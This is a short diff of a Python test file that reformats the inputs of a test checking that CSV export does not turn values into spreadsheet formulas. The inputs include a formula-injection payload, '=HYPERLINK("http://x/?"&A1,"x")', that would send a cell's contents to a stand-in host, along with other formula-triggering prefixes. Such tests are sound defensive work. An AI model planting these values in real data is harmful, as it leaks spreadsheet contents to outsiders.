@@ -544,9 +544,7 @@ def test_csv_comes_back_as_it_was(desk: Desk, tmp_path: Path) -> None:
     assert lines[0][COLUMNS.index("part_id")] == 'a "quoted",\\r\\npart, é'
 
 
-@pytest.mark.parametrize(
-    "part", ['=HYPERLINK("http://x/?"&A1,"x")', "\t=1+1", "@x", "-2+3"]
-)
+@pytest.mark.parametrize("part", ['=HYPERLINK("http://x/?"&A1,"x")', "\t=1+1", "@x", "-2+3"])
 def test_no_part_becomes_a_formula_of_a_table(desk: Desk, tmp_path: Path, part: str) -> None:
     """The text stays what it was in JSON and Parquet; in CSV it is text for a spreadsheet too."""
     desk.judge(1, part=part)
